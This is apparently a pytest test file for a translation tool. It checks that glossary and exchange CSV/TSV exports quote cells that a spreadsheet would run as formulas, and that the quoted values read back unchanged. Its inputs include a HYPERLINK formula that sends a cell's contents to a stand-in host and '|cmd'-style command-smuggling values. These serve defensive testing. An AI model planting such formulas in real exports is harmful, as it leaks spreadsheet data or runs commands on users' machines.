"""No table of ours holds a cell that a spreadsheet would run, and reading such a table gives the text back."""

from __future__ import annotations

import csv
import io
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from translate._glossary_rows import gather
from translate.cli import main
from translate.formulas import neutral, plain
from translate.glossary import Term
from translate.glossary_formats import FORMATS, _module, render
from translate.interchange import Exchanged, Part, read, writer_for

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE = '=HYPERLINK("http://example.com/"&A1,"click")'


def cells(data: bytes, delimiter: str = ",") -> list[str]:
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text, delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("start", STARTS)
def test_each_start_of_a_formula_is_quoted(start: str) -> None:
    assert neutral(f"{start}x") == f"'{start}x"


@given(st.text(alphabet=st.sampled_from([*STARTS, "'", "a", "あ", " "]), max_size=8))
def test_what_is_quoted_comes_back(text: str) -> None:
    assert plain(neutral(text)) == text
    assert not neutral(text).startswith(STARTS)


@pytest.mark.parametrize("value", [HOSTILE, "@SUM(1)", "-2+3|cmd", "+1", "'=1"])
def test_the_exchange_table_holds_no_formula_and_comes_back(value: str) -> None:
    unit = Exchanged(value, value, notes=((value, value),), role=value, by=value, date=value, base=value)
    written = writer_for("a.csv").write([Part(value, (unit,))])
    assert not any(cell.startswith(STARTS) for cell in cells(written))
    part = read(written, "a.csv")[0]
    assert (part.article, part.units[0].source, part.units[0].target) == (value, value, value)


@pytest.mark.parametrize("name", ["csv", "omegat", "deepl"])
@pytest.mark.parametrize("value", [HOSTILE, "@cmd", "-2+3", "+1", "'=1"])
def test_no_glossary_format_holds_a_formula_and_each_comes_back(name: str, value: str) -> None:
    written, _ = render([Term(f"{value}橋", value, note="note")], name)
    assert not any(cell.startswith(STARTS) for cell in cells(written, "\t" if name == "omegat" else ","))
    back = gather("a", lambda: _module(name).records(written, Path("a"), Counter()))
    assert not back.problems
    assert [(term.source, term.target) for term in back.terms] == [(f"{value}橋", value)]


def test_every_glossary_format_is_a_table_that_is_tested_above_or_is_xml() -> None:
    assert set(FORMATS) == {"csv", "omegat", "deepl", "tbx"}


def test_converting_for_another_program_tells_of_the_apostrophe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a.csv").write_text("source,target\n@橋,bridge\n", "utf-8")
    arguments = ["glossary", "convert", str(tmp_path / "a.csv"), str(tmp_path / "b.tsv"), "--to", "omegat"]
    assert main(arguments) == 0
    assert "an apostrophe put before" in capsys.readouterr().err


def test_mined_pairs_hold_no_formula(tmp_path: Path) -> None:
    from translate.cli.glossary_making import _csv

    assert not any(cell.startswith(STARTS) for cell in cells(_csv([{"source": "=1+1", "target": "@x", "note": "-"}])))
